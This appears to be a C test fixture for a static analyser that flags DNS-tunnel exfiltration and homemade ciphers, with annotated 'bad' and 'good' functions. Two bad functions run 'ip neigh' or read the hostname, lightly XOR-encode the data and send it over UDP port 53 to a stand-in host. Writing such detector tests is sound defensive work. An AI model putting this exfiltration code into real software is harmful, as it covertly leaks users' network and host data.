/* Packets to the port of name servers: with the output of a command, or with a question. */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/utsname.h>
#include <unistd.h>

struct packet {
    unsigned short id, flags, counts[4];
    unsigned char body[200];
};

static int port_53(struct sockaddr_in *peer, const char *where) {
    memset(peer, 0, sizeof *peer);
    peer->sin_family = AF_INET;
    peer->sin_port = htons(53);
    peer->sin_addr.s_addr = inet_addr(where);
    return socket(AF_INET, SOCK_DGRAM, 0);
}

int bad_answer(void) {
    struct packet packet = {.id = 7, .flags = htons(0x100)};
    struct sockaddr_in peer;
    unsigned char line[200];
    FILE *stream = popen("ip neigh", "r");
    size_t got = stream ? fread(line, 1, sizeof line, stream) : 0;
    for (size_t i = 0; i < got; i++)
        packet.body[i] = line[i] ^ 0x6d;
    int out = port_53(&peer, "192.0.2.153");
    // expected-warning-re@+2 {{{{.*}}[vitrine: exfil/dns-tunnel]}}
    // expected-warning-re@+1 {{{{.*}}[vitrine: crypto/homemade-cipher]}}
    sendto(out, &packet, sizeof packet, 0, (struct sockaddr *)&peer, sizeof peer);
    if (stream)
        pclose(stream);
    return close(out);
}

int bad_name(void) {
    struct packet packet = {.id = 8, .flags = htons(0x100)};
    struct sockaddr_in peer;
    struct utsname name;
    uname(&name);
    memcpy(packet.body, name.nodename, 64);
    int out = port_53(&peer, "192.0.2.153");
    // expected-warning-re@+1 {{{{.*}}[vitrine: exfil/dns-tunnel]}}
    sendto(out, &packet, sizeof packet, 0, (struct sockaddr *)&peer, sizeof peer);
    return close(out);
}

/* A question about a name that the user typed, to the server of the settings. */
int good_question(int argc, char **argv) {
    struct packet packet = {.id = 9, .flags = htons(0x100)};
    struct sockaddr_in peer;
    const char *server = getenv("NAMESERVER");
    if (argc < 2 || !server)
        return 2;
    strncpy((char *)packet.body, argv[1], sizeof packet.body - 1);
    int out = port_53(&peer, server);
    sendto(out, &packet, sizeof packet, 0, (struct sockaddr *)&peer, sizeof peer);
    return close(out);
}

/* The output of a command, kept here. */
int good_log(void) {
    unsigned char line[200];
    FILE *stream = popen("ip neigh", "r"), *log = fopen("/var/log/neighbours", "a");
    size_t got = stream ? fread(line, 1, sizeof line, stream) : 0;
    if (log)
        fwrite(line, 1, got, log);
    if (stream)
        pclose(stream);
    return log ? fclose(log) : -1;
}
